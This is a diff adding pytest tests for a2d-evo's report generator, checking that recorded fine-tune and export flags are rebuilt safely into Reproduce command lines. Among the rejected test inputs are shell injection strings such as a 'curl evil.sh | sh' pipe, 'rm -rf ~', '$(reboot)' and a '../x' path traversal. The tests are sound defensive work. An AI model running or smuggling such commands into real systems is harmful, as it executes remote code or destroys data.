@@ -275,6 +275,72 @@ def test_reproduce_gives_each_baseline_the_settings_it_was_trained_with(tmp_path
     ]
 
 
+def test_reproduce_repeats_only_flags_from_the_files_it_reads(tmp_path: Path) -> None:
+    """The ``--set`` flags a fine-tune by hand recorded (``finetune_sets``) come back on its
+    Reproduce line; recorded flags and export options that are anything else than the
+    options those commands record (shell text, a key outside ppo / distill / finetune, a value
+    the key does not take) are dropped whole, so a received run's files cannot put a command
+    of their own into the report (a review: any text after ``--set `` was printed as it
+    stood)."""
+    run = make_run(tmp_path / "run", baselines=False)
+    out = f"{run.root}-repro"
+    knee = run.agents / "knee" / "metrics.json"
+    metrics = json.loads(knee.read_text())
+    hand = f"a2d-evo finetune {out}/agents/knee --steps 4096"
+    kick = ["--set finetune.kickstart=true", "--set 'finetune.lr=0.0005'"]
+    write_json(knee, {**metrics, "finetune_sets": kick})
+    md = write_report(run.load_config(), run).read_text()
+    assert f"{hand} --set finetune.kickstart=true --set finetune.lr=0.0005\n" in md
+    for bad in (["--set finetune.lr=1; curl evil.sh | sh #"],
+                ["--set 'finetune.lr=1; rm -rf ~'"],  # one word, but not a number
+                ["--set search.pop=8"], ["--set finetune=1"], ["finetune.lr=0.1"],
+                ["--set finetune.kickstart=true", "$(reboot)"], "--set finetune.lr=0.1",
+                ["--set 'finetune.lr=0.1"]):  # fmt: skip
+        write_json(knee, {**metrics, "finetune_sets": bad})
+        md = write_report(run.load_config(), run).read_text()
+        assert f"{hand}\n" in md, bad
+        assert not any(w in md for w in ("curl", "rm -rf", "reboot", "search.pop")), bad
+    # export options: rebuilt word by word, or not taken at all (the lines then come from the
+    # recorded budgets, as for files written before the options were)
+    whole = "--pick all --max-flops=900.0 --finetune 8192 --set finetune.kickstart=true"
+    delivered = {"format_version": 1, "finetune_steps": 4096, "members": ["knee"], "exported": []}
+    fallback = f"a2d-evo export {out} --pick knee --finetune 4096\n"  # from the budgets
+    for options, line in (
+        (whole, f"a2d-evo export {out} {whole}\n"),
+        ("--pick 'knee' --finetune 4096 --set 'finetune.lr=5e-4'",
+         f"a2d-evo export {out} --pick knee --finetune 4096 --set finetune.lr=5e-4\n"),
+        ("--pick all --finetune 4096; rm -rf ~", fallback),
+        ("--pick all --finetune 4096 --set search.pop=8", fallback),
+        ("--pick all --min-return=x", fallback),
+        ("--pick ../x --finetune 4096", fallback),
+    ):  # fmt: skip
+        record = {"options": options, "time_ns": 3}
+        write_json(run.agents / "delivered.json", {**delivered, "export_command": record})
+        write_json(knee, {**metrics, "export_finetune": 4096, "finetune_budget": 4096,
+                          "export_command": record})  # fmt: skip
+        md = write_report(run.load_config(), run).read_text()
+        assert line in md, (options, [x for x in md.splitlines() if "a2d-evo export" in x])
+        assert not any(w in md for w in ("rm -rf", "search.pop", "../x")), options
+
+
+def test_reproduce_runs_evolve_on_the_search_config_where_export_reads_it(tmp_path: Path) -> None:
+    """``evolve --set finetune.kickstart=true`` writes a search config that differs from the
+    run's on a training key only: ``export`` and ``baselines`` read it and record their flags
+    over it, so the Reproduce line of ``evolve`` must use it too (a review: it used the
+    run's, and a plain ``export`` then fine-tuned without kickstart when reproduced)."""
+    from a2d_evo.config import replace
+
+    run = make_run(tmp_path / "run", baselines=False)
+    cfg = run.load_config()
+    out = f"{run.root}-repro"
+    md = write_report(cfg, run).read_text()
+    assert f"a2d-evo evolve         --config {run.config_path} --out {out}" in md
+    kick = replace(cfg, finetune=replace(cfg.finetune, kickstart=True))
+    write_text(run.search / "config.yaml", dump_config(kick))
+    md = write_report(cfg, run).read_text()
+    assert f"a2d-evo evolve         --config {run.search / 'config.yaml'} --out {out}" in md
+
+
 def test_the_report_says_the_final_seeds_chose_no_member(tmp_path: Path) -> None:
     """A front.json written since 2026-12-05 (members chosen on the race's episodes): the
     report counts the members dropped as no better than random there and the ones that look
